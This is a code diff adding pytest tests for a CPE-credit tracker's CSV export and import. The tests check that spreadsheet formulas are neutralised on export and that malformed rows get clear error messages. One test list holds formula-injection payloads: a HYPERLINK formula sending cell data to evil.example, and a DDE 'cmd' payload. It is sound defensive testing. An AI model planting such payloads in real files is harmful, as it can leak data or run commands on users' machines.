@@ -122,3 +122,92 @@ def test_unwritable_destination_names_the_users_file(tmp_path: pathlib.Path) -> 
         write_atomically(folder_target, b"x")
     assert caught.value.filename == str(folder_target)
     assert not list(tmp_path.glob(".*.partial"))  # nothing left behind
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tleading tab",
+    "\rleading carriage return",
+    "'=already quoted once",
+]
+
+
+def test_exported_formulas_are_text_and_import_back_unchanged(
+    db: Database, tmp_path: pathlib.Path
+) -> None:
+    with db.session_factory.begin() as session:
+        for i, formula in enumerate(FORMULAS):
+            session.add(
+                CpeActivity(
+                    date=dt.date(2026, 1, 1 + i),
+                    activity=formula,
+                    provider=formula,
+                    credits=1,
+                    category=formula,
+                    notes=formula,
+                )
+            )
+    out = tmp_path / "cpe.csv"
+    with db.session_factory() as session:
+        write_cpe_csv(session, out)
+        original = rows_from_db(session)
+        codes = known_certification_codes(session)
+    records = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))[1:]
+    for record, formula in zip(records, FORMULAS, strict=True):
+        for cell in (record[1], record[2], record[4], record[6]):
+            assert cell == "'" + formula  # a spreadsheet shows it, never runs it
+    assert records[0][0] == "2026-01-01" and records[0][3] == "1"  # dates and numbers as they are
+    assert parse_cpe_csv(out.read_bytes(), codes) == original  # the apostrophe comes off again
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("date,activity,credits\n2024-01-01,Talk,1_000\n", "row 2, credits: not a number"),
+        ("date,activity,credits\n2024-01-01,Talk,1e3\n", "row 2, credits: not a number"),
+        ('date,activity,credits\n2024-01-01,Talk,"1,5"\n', "row 2, credits: not a number"),
+        ("date,activity,credits\n2024-01-01,Talk,inf\n", "row 2, credits: must be a number"),
+        (
+            "date,activity,credits\n20260601,Talk,1\n",
+            "row 2, date: not a date (expected YYYY-MM-DD)",
+        ),
+        ("date,activity,credits\n2026-W23-1,Talk,1\n", "row 2, date: not a date"),
+        ("date,activity,credits\n2026-06-01T10:00,Talk,1\n", "row 2, date: not a date"),
+        (
+            "date;activity;credits\n2024-01-01;Talk;1\n",
+            "row 1: missing column(s) date, activity, credits (the columns seem to be separated "
+            "by semicolons, not commas)",
+        ),
+        (
+            "date\tactivity\tcredits\n2024-01-01\tTalk\t1\n",
+            "row 1: missing column(s) date, activity, credits (the columns seem to be separated "
+            "by tabs, not commas)",
+        ),
+        (
+            'date,activity,credits\n2024-01-01,Talk,1\n2024-01-02,"Webinar,2\n2024-01-03,Book,3\n',
+            'row 3 (line 3): a quote (") is opened and never closed',
+        ),
+        ('date,activity,credits\n2024-01-01,"5" floppy,1\n', "row 2 (line 2): ',' expected"),
+    ],
+)
+def test_what_the_message_does_not_promise_is_refused(
+    db: Database, text: str, message: str
+) -> None:
+    with db.session_factory() as session:
+        codes = known_certification_codes(session)
+    with pytest.raises(CsvRejected) as caught:
+        parse_cpe_csv(text.encode(), codes)
+    assert str(caught.value).startswith(message)
+
+
+def test_plain_values_still_import(db: Database) -> None:
+    text = "date,activity,credits\n2024-02-29,Leap day talk,0.5\n2024-03-01,Course,.25\n"
+    with db.session_factory() as session:
+        rows = parse_cpe_csv(text.encode(), known_certification_codes(session))
+    assert [(r.date, r.credits) for r in rows] == [
+        (dt.date(2024, 2, 29), 0.5),
+        (dt.date(2024, 3, 1), 0.25),
+    ]
